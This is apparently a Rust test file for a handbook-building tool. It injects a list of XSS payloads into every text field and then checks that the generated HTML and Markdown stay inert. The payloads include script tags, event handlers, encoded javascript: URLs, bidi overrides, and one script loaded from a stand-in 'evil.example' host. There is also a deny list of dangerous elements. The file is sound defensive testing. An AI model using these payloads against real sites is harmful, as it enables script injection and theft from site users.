//! Hostile content: a corpus of XSS payloads (script tags, event handlers, `javascript:`
//! and `data:` URLs, encoded variants, broken tags, bidi overrides) is put in every text
//! field a project can hold, the real binary builds it, and the handbooks are parsed as a
//! browser would (html5ever through `scraper`, pulldown-cmark for the Markdown) to prove
//! that nothing in them is active: no element, attribute or URL that the templates did not
//! write themselves, and every bidi override closed where its value ends.

mod common;

use common::{csstd, write};
use scraper::{Html, Node};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::path::Path;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \tjava\nscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "JAVASCRIPT&#58;alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</script>",
    "<div <script>alert(1)</script>",
    "<a href='https://ok.example' onclick='alert(1)'>x</a>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<!-- --><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</textarea></title></style><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{{ 7*7 }} {% raw %} ${7*7}",
    "`<script>`\n\n```\n</code></pre><script>alert(1)</script>\n```",
    "| a | <script>alert(1)</script> |\n|---|---|\n| b | c |",
    "\u{202E}gnp.exe\u{202C} admin",
    "user\u{202E} name without end",
    "\u{2067}isolate\u{2066}nested\u{202B}embed",
    "\u{0}\u{1}\u{7}\u{1b}[31mred",
];

/// A project whose every text field holds `payload`: a base standard and one region.
fn project(dir: &Path, payload: &str) {
    let p = payload;
    let base = json!({
        "standard": {
            "id": "global", "title": p, "version": "1.0.0", "owner": p,
            "approvers": [p], "contributors": [p], "default_language": "en",
            "effective": "2026-01-01", "last_reviewed": "2026-10-01", "review_every_months": 12,
        },
        "channels": {
            "email": {"enabled": true, "languages": ["en"], "schedule": "office",
                      "targets": {"first_response": "24h"}},
        },
        "sections": [{"id": "attitude", "title": p}],
        "metrics": [{"id": "csat", "title": p, "category": "satisfaction", "target": ">= 85%",
                     "measured_by": p, "frequency": p}],
        "clauses": [{"id": "attitude.respect", "section": "attitude", "title": p, "text": p,
                     "metric": "csat", "principles": ["customer-orientation"]}],
        "legal": [{"id": "privacy", "title": p, "topics": ["data-protection"], "note": p,
                   "reference": p}],
        "priorities": [{"id": "p1", "title": p, "definition": p, "examples": [p]}],
        "schedules": [{"id": "office", "timezone": "Europe/Berlin",
                       "hours": {"mon": "09:00-17:00"},
                       "holidays": [{"name": p, "date": "2026-12-25"}]}],
        "slas": [{"id": "p1-email", "channel": "email", "priority": "p1",
                  "measure": "first_response", "within": "4h", "clock": "calendar",
                  "attainment": ">= 90%", "tier": p}],
        "escalations": [{"id": "p1-lead", "priority": "p1", "after": "2h", "clock": "calendar",
                         "to": p, "via": p}],
    });
    let region = json!({
        "culture": {
            "id": "xx-XX", "name": p, "extends": "global", "languages": ["en"],
            // `timezone` is checked against the IANA database, so it cannot carry a payload.
            "timezone": "Europe/Berlin", "business_hours": p, "holidays": [p], "owner": p, "approvers": [p],
        },
        "communication": {"directness": "direct", "context": "low", "formality": "neutral",
                          "address": p, "greeting": p, "do": [p], "avoid": [p]},
        "expectations": {"email": {"first_response": "8h"}},
        "clauses": [{"id": "attitude.respect", "append": p}],
    });
    write(
        dir,
        "standards/global.toml",
        toml::to_string(&base).expect("TOML"),
    );
    write(
        dir,
        "cultures/xx-XX.toml",
        toml::to_string(&region).expect("TOML"),
    );
    write(
        dir,
        "csstd.toml",
        "[lint]\ndeny_warnings = false\n[lint.rules]\n",
    );
}

/// Builds the project and returns (handbook.html, index.html, handbook.md).
fn build(payload: &str) -> (String, String, String) {
    let dir = tempfile::tempdir().expect("a temporary folder");
    project(dir.path(), payload);
    let run = csstd(
        dir.path(),
        &[
            "build",
            "--out",
            "dist",
            "--today",
            common::TODAY,
            "--jobs",
            "1",
        ],
    );
    assert_eq!(
        run.code, 0,
        "payload {payload:?} did not build:\n{}",
        run.stderr
    );
    let read = |f: &str| std::fs::read_to_string(dir.path().join("dist").join(f)).expect(f);
    (
        read("xx-XX/handbook.html"),
        read("index.html"),
        read("xx-XX/handbook.md"),
    )
}

/// Every element with its attribute names, as the parsed page has them.
fn shape(doc: &Html) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for node in doc.tree.nodes() {
        if let Node::Element(e) = node.value() {
            out.insert(e.name().to_string());
            for (name, _) in e.attrs() {
                out.insert(format!("{}[{name}]", e.name()));
            }
        }
    }
    out
}

/// Benign Markdown using every construct source text may use.
const RICH_MARKDOWN: &str = "Plain *em* **strong** ~~del~~ `code` [link](https://example.org) \
<https://example.org> <mailto:a@example.org>\n\n```\ncode block\n```\n\n> quote\n\n- item\n\n\
1. first\n\n| a | b |\n|:--|--:|\n| c | d |\n\n# Heading\n\n---\n\nline  \nbreak";

/// Does every bidi embedding, override or isolate opened in `text` end inside it?
fn bidi_balanced(text: &str) -> bool {
    let mut open: Vec<char> = Vec::new();
    for c in text.chars() {
        match c {
            '\u{202A}' | '\u{202B}' | '\u{202D}' | '\u{202E}' => open.push('\u{202C}'),
            '\u{2066}' | '\u{2067}' | '\u{2068}' => open.push('\u{2069}'),
            '\u{202C}' if open.last() == Some(&'\u{202C}') => {
                open.pop();
            }
            '\u{2069}' => {
                if let Some(at) = open.iter().rposition(|c| *c == '\u{2069}') {
                    open.truncate(at);
                }
            }
            _ => {}
        }
    }
    open.is_empty()
}

/// A URL as a browser reads it: is its scheme one the handbook allows?
fn allowed_url(url: &str) -> bool {
    let cleaned: String = url
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let cleaned = cleaned.trim_matches(|c: char| c.is_whitespace() || c.is_control());
    let colon = cleaned.find(':');
    let path = cleaned.find(['/', '?', '#']);
    match colon {
        Some(c) if path.is_none_or(|p| c < p) => {
            let scheme = cleaned[..c].to_ascii_lowercase();
            // Text before the colon that is no scheme makes a relative URL.
            let is_scheme = scheme.starts_with(|c: char| c.is_ascii_alphabetic())
                && scheme
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
            !is_scheme || matches!(scheme.as_str(), "http" | "https" | "mailto")
        }
        _ => true,
    }
}

fn check_page(page: &str, baseline: &BTreeSet<String>, payload: &str, what: &str) {
    let doc = Html::parse_document(page);
    let extra: Vec<String> = shape(&doc).difference(baseline).cloned().collect();
    assert!(
        extra.is_empty(),
        "{what}: payload {payload:?} added elements or attributes {extra:?}"
    );
    for node in doc.tree.nodes() {
        match node.value() {
            Node::Element(e) => {
                for (name, value) in e.attrs() {
                    assert!(
                        !name.to_ascii_lowercase().starts_with("on"),
                        "{what}: event handler {name}={value:?} from {payload:?}"
                    );
                    if matches!(
                        name,
                        "href" | "src" | "action" | "formaction" | "xlink:href"
                    ) {
                        assert!(
                            allowed_url(value),
                            "{what}: {name}={value:?} from {payload:?}"
                        );
                    }
                    assert!(
                        !value.to_ascii_lowercase().contains("javascript:"),
                        "{what}: attribute {name}={value:?} from {payload:?}"
                    );
                }
                assert!(
                    !matches!(
                        e.name(),
                        "script"
                            | "iframe"
                            | "object"
                            | "embed"
                            | "img"
                            | "svg"
                            | "math"
                            | "form"
                            | "input"
                            | "base"
                            | "link"
                            | "frame"
                            | "textarea"
                    ),
                    "{what}: <{}> from {payload:?}",
                    e.name()
                );
            }
            Node::Text(t) => assert!(
                bidi_balanced(t),
                "{what}: a bidi override leaks out of {:?} (payload {payload:?})",
                &**t
            ),
            _ => {}
        }
    }
    // The only <style> is the page's own stylesheet, and no payload reached it.
    let styles = scraper::Selector::parse("style").expect("a selector");
    for style in doc.select(&styles) {
        let css: String = style.text().collect();
        assert!(
            !css.contains("alert(") && !css.contains("javascript"),
            "{what}: payload in the stylesheet"
        );
    }
}

/// Raw HTML in the Markdown handbook: a CommonMark renderer would pass it through.
fn raw_html_of(md: &str) -> BTreeSet<String> {
    use pulldown_cmark::{Event, Parser};
    Parser::new(md)
        .filter_map(|e| match e {
            Event::Html(h) | Event::InlineHtml(h) => Some(h.to_string()),
            _ => None,
        })
        .collect()
}

fn md_links(md: &str) -> Vec<String> {
    use pulldown_cmark::{Event, Parser, Tag};
    Parser::new(md)
        .filter_map(|e| match e {
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                Some(dest_url.to_string())
            }
            _ => None,
        })
        .collect()
}

#[test]
fn payloads_in_every_text_field_end_up_inert() {
    // What the templates write for benign text, plain and with every Markdown construct.
    let mut baseline = BTreeSet::new();
    let mut index_baseline = BTreeSet::new();
    let mut md_baseline = BTreeSet::new();
    for benign in ["Plain words", RICH_MARKDOWN] {
        let (html, index, md) = build(benign);
        baseline.extend(shape(&Html::parse_document(&html)));
        index_baseline.extend(shape(&Html::parse_document(&index)));
        md_baseline.extend(raw_html_of(&md));
    }
    for payload in PAYLOADS {
        let (html, index, md) = build(payload);
        check_page(&html, &baseline, payload, "handbook.html");
        check_page(&index, &index_baseline, payload, "index.html");
        let raw: Vec<String> = raw_html_of(&md).difference(&md_baseline).cloned().collect();
        assert!(
            raw.is_empty(),
            "handbook.md: raw HTML {raw:?} from {payload:?}"
        );
        for url in md_links(&md) {
            assert!(
                allowed_url(&url),
                "handbook.md: link {url:?} from {payload:?}"
            );
        }
    }
}

/// The payload is shown, not dropped: a reader sees what the source says.
#[test]
fn escaped_payloads_are_still_visible_as_text() {
    let (html, _, _) = build("<script>alert(1)</script>");
    let doc = Html::parse_document(&html);
    let text: String = doc.root_element().text().collect();
    assert!(
        text.contains("<script>alert(1)</script>"),
        "the payload is not shown as text"
    );
    let value: Value = json!(text.matches("alert(1)").count());
    assert!(
        value.as_u64().unwrap_or(0) >= 5,
        "most fields show the payload"
    );
}
